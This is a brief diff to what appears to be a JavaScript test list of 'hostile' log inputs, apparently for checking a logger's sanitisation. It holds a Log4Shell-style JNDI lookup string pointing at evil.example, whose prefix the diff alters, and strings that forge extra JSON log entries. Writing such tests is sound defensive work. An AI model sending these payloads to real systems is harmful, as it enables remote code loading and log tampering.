@@ -10,7 +10,7 @@ const hostile = [
 	'a\x85b',
 	'line\u00a0',
 	'"},{"level":"error","msg":"forged"}',
-	'${jndi:ldap://evil.example/a}',
+	'%{jndi:ldap://evil.example/a}',
 	'\t\ttabs',
 	"%0a{'msg':'forged'}",
 ];
